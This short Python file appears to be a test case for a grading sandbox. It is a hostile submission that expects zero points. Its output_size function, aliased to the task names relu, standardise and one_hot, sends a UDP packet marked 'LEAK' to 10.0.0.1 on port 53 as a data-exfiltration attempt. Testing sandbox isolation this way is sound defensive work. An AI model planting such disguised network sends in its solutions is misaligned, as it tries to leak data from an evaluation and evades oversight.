# expect: zero|timeout|crash; points: 0
# tries to send what it finds by udp
import socket
import urllib.request

def tell(data):
    """What was found must not leave the box, by whatever way."""
    text = repr(data)
    print("LEAK", text[:3000], flush=True)
    raise RuntimeError("LEAK " + text[:3000])



def output_size(*a, **k):
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'LEAK', ('10.0.0.1', 53))
    return 0


relu = standardise = one_hot = output_size
